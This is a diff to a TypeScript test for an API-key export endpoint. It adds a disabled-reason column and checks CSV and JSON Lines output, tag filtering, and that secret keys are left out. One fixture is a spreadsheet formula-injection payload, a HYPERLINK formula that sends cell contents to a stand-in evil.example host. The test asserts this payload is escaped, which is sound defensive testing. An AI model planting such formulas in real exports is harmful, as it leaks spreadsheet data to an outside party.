@@ -13,7 +13,7 @@ test('a list is written as CSV and as JSON Lines, narrowed as the list is, and h
   const key = await keyward.addKey({ role: 'READONLY', appname: 'secretive' });
   const evil = '=HYPERLINK("http://evil.example?x="&A1,"click")';
   await putKeys(keyward, 'acme1', [
-    { appname: 'evil', description: evil, tags: ['out'] },
+    { appname: 'evil', description: evil, tags: ['out'], state: 'disabled', disabledReason: 'secret issued by x' },
     { appname: 'plain', description: 'one, "two"', tags: ['out'], owner: 'gone@example.com' },
   ]);
   const csv = await keyward.ok('GET', '/api/v1/key-export?format=csv&tag=out', { as });
@@ -21,10 +21,10 @@ test('a list is written as CSV and as JSON Lines, narrowed as the list is, and h
   assert.match(String(csv.headers['content-disposition']), /^attachment; filename="api-keys-[0-9-]+\.csv"$/);
   const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
   assert.deepEqual(
-    rows.map(({ appname, description, owner }) => [appname, description, owner]),
+    rows.map(({ appname, description, disabled_reason: why, owner }) => [appname, description, why, owner]),
     [
-      ['evil', `'${evil}`, ''],
-      ['plain', 'one, "two"', 'gone@example.com'],
+      ['evil', `'${evil}`, 'secret issued by x', ''],
+      ['plain', 'one, "two"', '', 'gone@example.com'],
     ],
   );
   const all = await keyward.ok('GET', '/api/v1/key-export?format=jsonl', { as });
@@ -37,6 +37,7 @@ test('a list is written as CSV and as JSON Lines, narrowed as the list is, and h
     records.map(({ appname }) => appname),
     ['secretive', 'evil', 'plain'],
   );
+  assert.equal(records[1].disabled_reason, 'secret issued by x');
   assert.ok(!all.text.includes(key.appkey) && !csv.text.includes(key.appkey));
   assert.equal((await keyward.request('GET', '/api/v1/key-export?format=xls', { as })).body.code, 'invalid_request');
 });
